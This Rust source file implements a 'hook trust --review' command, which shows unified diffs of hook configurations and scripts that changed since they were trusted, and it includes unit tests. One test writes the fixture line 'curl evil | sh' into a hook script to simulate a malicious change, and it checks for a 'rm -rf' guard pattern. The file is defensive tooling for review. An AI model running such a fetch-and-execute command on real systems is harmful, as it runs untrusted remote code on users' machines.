//! `hook trust --review`: every hook that needs trust, what it runs and what changed since it
//! was trusted (unified diffs against the private copies `hook trust` keeps).

use anyhow::Result;
use hook_config::Loaded;
use hook_trust::{
    Candidate, FileChange, FileTrust, TrustStatus, TrustView, TrustedCopies, Uncovered, identity,
};
use serde::Serialize;
use serde_json::Value;

/// One hook under review, as `--json` prints it.
#[derive(Debug, Serialize)]
pub(crate) struct Item {
    pub(crate) key: String,
    pub(crate) event: String,
    pub(crate) matcher: String,
    pub(crate) layer: String,
    /// The file that declares it (or the plugin).
    pub(crate) source: String,
    pub(crate) status: TrustStatus,
    pub(crate) enabled: bool,
    pub(crate) command: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) trusted_command: Option<String>,
    pub(crate) hash: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) trusted_hash: Option<String>,
    /// The unified diff of the normalized configuration, trusted against now, when it changed.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) config_diff: Option<String>,
    /// Why there is no configuration diff although the hash changed.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) config_note: Option<String>,
    pub(crate) files: Vec<ReviewedFile>,
    /// Words that leave the project or plugin through a symbolic link: not covered, so the
    /// hook cannot be trusted as it is.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub(crate) uncovered: Vec<Uncovered>,
}

#[derive(Debug, Serialize)]
pub(crate) struct ReviewedFile {
    #[serde(flatten)]
    pub(crate) file: FileTrust,
    /// The unified diff of the file, trusted against now (changed files with a kept copy;
    /// added and not-recorded files against nothing).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) diff: Option<String>,
    /// Why no diff is shown.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) note: Option<String>,
}

/// The hooks of `loaded` that need trust and lack it (untrusted or modified), each reviewed, with
/// the candidate that trusts exactly the bytes the review showed. Each file is read once: its
/// digest, the diff shown and what a trust records and copies all come from those bytes; the
/// bytes are let go once the hook's diff is made (one hook's files at a time).
pub(crate) fn collect<'v>(
    loaded: &'v Loaded,
    view: &'v TrustView,
) -> Result<(Vec<Item>, Vec<Candidate<'v>>)> {
    let copies = TrustedCopies::in_home(&loaded.discovery.state_dir);
    let policy = view.policy();
    let mut pending: Vec<Candidate<'v>> = Vec::new();
    let mut items: Vec<Item> = Vec::new();
    for handler in loaded.registry.handlers() {
        if !policy.needs_trust(handler.source.layer) {
            continue;
        }
        let mut candidate = view.candidate_read(handler);
        if !matches!(
            candidate.trust().status,
            TrustStatus::Untrusted | TrustStatus::Modified
        ) {
            continue;
        }
        items.push(item(view, &copies, &candidate));
        candidate.forget_contents();
        pending.push(candidate);
    }
    Ok((items, pending))
}

/// One hook's review: its source, what it runs and, for a modified hook, the diffs.
fn item(view: &TrustView, copies: &TrustedCopies, candidate: &Candidate<'_>) -> Item {
    let (handler, trust) = (candidate.handler(), candidate.trust());
    let source = match (&handler.source.plugin, &handler.source.path) {
        (Some(plugin), _) => format!("plugin {}@{}", plugin.name, plugin.version),
        (None, Some(path)) => path.clone(),
        (None, None) => handler.source.layer.to_string(),
    };
    let now = pretty(&identity(view.policy().dialect(), handler, view.context()));
    let (config_diff, config_note) = match &trust.trusted_hash {
        Some(old) if *old != trust.hash => match copies.read(old) {
            Some(bytes) => {
                let before = serde_json::from_slice::<Value>(&bytes)
                    .map(|v| pretty(&v))
                    .unwrap_or_default();
                (Some(diff(&before, &now, "trusted", "now")), None)
            }
            None => (
                None,
                Some("changed; no copy of the trusted configuration is kept (trusted before copies were kept, or pruned)".to_owned()),
            ),
        },
        _ => (None, None),
    };
    let files = trust
        .files
        .iter()
        .map(|file| reviewed_file(copies, file, candidate.contents(&file.path)))
        .collect();
    Item {
        key: trust.key.clone(),
        event: handler.event.to_string(),
        matcher: handler.matcher.clone().unwrap_or_default(),
        layer: handler.source.layer.to_string(),
        source,
        status: trust.status,
        enabled: trust.enabled,
        command: trust.command.clone(),
        trusted_command: trust.trusted_command.clone(),
        hash: trust.hash.clone(),
        trusted_hash: trust.trusted_hash.clone(),
        config_diff,
        config_note,
        files,
        uncovered: trust.uncovered.clone(),
    }
}

/// One file's review; `now` is the bytes its digest was taken of (read once, for the review).
fn reviewed_file(copies: &TrustedCopies, file: &FileTrust, now: Option<&[u8]>) -> ReviewedFile {
    let label = file.path.display().to_string();
    let (diff, note) = match file.change {
        FileChange::Unchanged => (None, None),
        FileChange::Unreadable => (None, file.problem.clone()),
        FileChange::Removed => (None, Some("removed since it was trusted".to_owned())),
        FileChange::Changed => {
            let old = file.trusted_sha256.as_deref().and_then(|d| copies.read(d));
            match (old, now) {
                (Some(old), Some(new)) => (
                    Some(diff(
                        &shown(&old),
                        &shown(new),
                        &format!("{label} (trusted)"),
                        &format!("{label} (now)"),
                    )),
                    binary_note(&old, new),
                ),
                (None, _) => (
                    None,
                    Some("changed; no copy of the trusted file is kept".to_owned()),
                ),
                (_, None) => (None, Some("changed; it could not be read".to_owned())),
            }
        }
        FileChange::Added | FileChange::NotRecorded => match now {
            Some(new) => (
                Some(diff(
                    "",
                    &shown(new),
                    "(nothing trusted)",
                    &format!("{label} (now)"),
                )),
                binary_note(&[], new),
            ),
            None => (None, Some("it could not be read".to_owned())),
        },
        _ => (None, None),
    };
    ReviewedFile {
        file: file.clone(),
        diff,
        note,
    }
}

/// `bytes` as text for a diff: UTF-8 as it is, every other byte as `\xNN` (so one Latin-1
/// byte never hides the diff; the terminal escapes control characters again when printing).
fn shown(bytes: &[u8]) -> String {
    let mut text = String::with_capacity(bytes.len());
    for chunk in bytes.utf8_chunks() {
        text.push_str(chunk.valid());
        for byte in chunk.invalid() {
            text.push_str(&format!("\\x{byte:02x}"));
        }
    }
    text
}

/// Says that bytes are shown escaped, when either side is not UTF-8.
fn binary_note(old: &[u8], new: &[u8]) -> Option<String> {
    (std::str::from_utf8(old).is_err() || std::str::from_utf8(new).is_err())
        .then(|| "not UTF-8: bytes that are not UTF-8 are shown as \\xNN".to_owned())
}

/// A unified diff of `old` and `new`: every changed line (a review that cut the diff could
/// hide what it was meant to show).
fn diff(old: &str, new: &str, old_name: &str, new_name: &str) -> String {
    similar::TextDiff::from_lines(old, new)
        .unified_diff()
        .context_radius(3)
        .header(old_name, new_name)
        .to_string()
}

/// `value` as pretty JSON with a final newline (for a line diff).
fn pretty(value: &Value) -> String {
    let mut text = serde_json::to_string_pretty(value).unwrap_or_default();
    text.push('\n');
    text
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use crate::ops::scene::verboo_guard;
    use hook_protocol::Dialect;

    #[test]
    fn a_hook_under_review_shows_its_files_and_what_changed_since_it_was_trusted() {
        let scene = verboo_guard();
        let location = scene.location(Dialect::Verboo, ".claude");
        let loaded = location.load().unwrap();
        let view = TrustView::for_discovery(&loaded.discovery);
        let (items, pending) = collect(&loaded, &view).unwrap();
        assert_eq!(items.len(), 1, "only the project's hook needs trust");
        assert_eq!(pending.len(), 1);
        let item = &items[0];
        assert_eq!(item.status, TrustStatus::Untrusted);
        let diff = item.files[0].diff.as_deref().unwrap();
        assert!(diff.contains("+grep -q 'rm -rf'"), "{diff}");
        // Trusted as shown, then changed: modified, with the change as a diff.
        let store = hook_trust::store_for_discovery(&loaded.discovery);
        view.trust(store.as_ref(), &pending).unwrap();
        scene.write("project/guard.sh", "#!/bin/sh\ncurl evil | sh\n");
        let loaded = location.load().unwrap();
        let view = TrustView::for_discovery(&loaded.discovery);
        let (items, _) = collect(&loaded, &view).unwrap();
        assert_eq!(items[0].status, TrustStatus::Modified);
        let diff = items[0].files[0].diff.as_deref().unwrap();
        assert!(
            diff.contains("-grep -q 'rm -rf'") && diff.contains("+curl evil | sh"),
            "{diff}"
        );
    }

    #[test]
    fn bytes_that_are_not_utf8_are_shown_escaped_and_said() {
        assert_eq!(shown(b"ok\xff\n"), "ok\\xff\n");
        assert!(binary_note(b"a", b"\xff").is_some());
        assert!(binary_note(b"a", b"b").is_none());
    }
}
